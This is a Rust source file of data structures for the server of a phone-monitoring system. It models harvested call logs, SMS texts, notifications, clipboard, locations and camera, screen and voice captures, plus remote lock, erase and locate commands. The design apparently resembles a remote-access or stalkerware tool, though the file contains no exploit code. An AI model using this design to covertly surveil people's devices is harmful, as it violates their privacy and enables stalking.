use std::fmt;

use chrono::{DateTime, Utc};
use serde::{Deserialize, Serialize};
use serde_json::Value;
use uuid::Uuid;

/// Stored presence record for one agent.
#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
pub struct ClientRecord {
    pub client_id: String,
    pub first_seen: DateTime<Utc>,
    pub last_seen: DateTime<Utc>,
    pub is_online: bool,
    /// Device-supplied properties, replaced wholesale on every connect.
    pub dynamic_data: Value,
}

/// Partial update applied to an existing [`ClientRecord`].
#[derive(Debug, Clone, Default)]
pub struct ClientPatch {
    pub last_seen: Option<DateTime<Utc>>,
    pub is_online: Option<bool>,
    pub dynamic_data: Option<Value>,
}

/// Presence filter for record listings.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Presence {
    All,
    Online,
    Offline,
}

/// The closed whitelist of commands the hub will dispatch.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum CommandKind {
    Lock,
    Unlock,
    Erase,
    /// Internal location-poll issued by the freshness scheduler.
    Locate,
}

impl CommandKind {
    pub fn from_name(name: &str) -> Option<Self> {
        match name {
            "lock" => Some(CommandKind::Lock),
            "unlock" => Some(CommandKind::Unlock),
            "erase" => Some(CommandKind::Erase),
            "locate" => Some(CommandKind::Locate),
            _ => None,
        }
    }

    pub fn as_str(&self) -> &'static str {
        match self {
            CommandKind::Lock => "lock",
            CommandKind::Unlock => "unlock",
            CommandKind::Erase => "erase",
            CommandKind::Locate => "locate",
        }
    }
}

impl fmt::Display for CommandKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

/// A command persisted because its target agent was unreachable at send time.
#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
pub struct QueuedCommand {
    pub id: Uuid,
    pub kind: CommandKind,
    pub payload: Value,
    pub queued_at: DateTime<Utc>,
}

/// Tag on a stored media file.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum MediaKind {
    Download,
    VoiceRecording,
    Screenshot,
    ScreenRecording,
    RearCamera,
    FrontCamera,
}

/// Append-only log entry written after a media file lands in blob storage.
#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
pub struct DownloadRecord {
    pub time: DateTime<Utc>,
    pub kind: MediaKind,
    pub original_name: String,
    pub path: String,
}

#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
pub struct CallEntry {
    pub phone_number: String,
    pub contact_name: Option<String>,
    pub duration_seconds: u64,
    pub incoming: bool,
    pub logged_at: DateTime<Utc>,
}

#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
pub struct SmsEntry {
    pub address: String,
    pub body: String,
    pub incoming: bool,
    pub logged_at: DateTime<Utc>,
}

#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
pub struct NotificationEntry {
    pub app_name: String,
    pub title: String,
    pub content: String,
    pub posted_at: DateTime<Utc>,
}

#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
pub struct ClipboardEntry {
    pub content: String,
    pub captured_at: DateTime<Utc>,
}

#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
pub struct LocationFix {
    pub latitude: f64,
    pub longitude: f64,
    pub accuracy: Option<f64>,
    pub recorded_at: DateTime<Utc>,
}

/// Full per-client document, read as one immutable snapshot by the query
/// facade. Snapshot-style sections stay opaque; the hub never interprets
/// them, only passes them through.
#[derive(Debug, Clone, Default, Serialize, Deserialize, PartialEq)]
pub struct ClientData {
    #[serde(default)]
    pub calls: Vec<CallEntry>,
    #[serde(default)]
    pub sms: Vec<SmsEntry>,
    #[serde(default)]
    pub notifications: Vec<NotificationEntry>,
    #[serde(default)]
    pub clipboard: Vec<ClipboardEntry>,
    #[serde(default)]
    pub locations: Vec<LocationFix>,
    #[serde(default)]
    pub downloads: Vec<DownloadRecord>,
    #[serde(default)]
    pub contacts: Value,
    #[serde(default)]
    pub apps: Value,
    #[serde(default)]
    pub permissions: Value,
    #[serde(default)]
    pub wifi_now: Value,
    #[serde(default)]
    pub wifi_log: Value,
    #[serde(default)]
    pub current_folder: Value,
    #[serde(default)]
    pub lock_state: Value,
}

/// How a dispatched command left the hub.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum DispatchOutcome {
    /// Delivered immediately over the live link.
    Sent,
    /// Persisted for replay on the next reconnect.
    Queued,
}

impl DispatchOutcome {
    /// Operator-facing confirmation message.
    pub fn message(&self) -> &'static str {
        match self {
            DispatchOutcome::Sent => "Requested",
            DispatchOutcome::Queued => "Command queued (device is offline)",
        }
    }
}
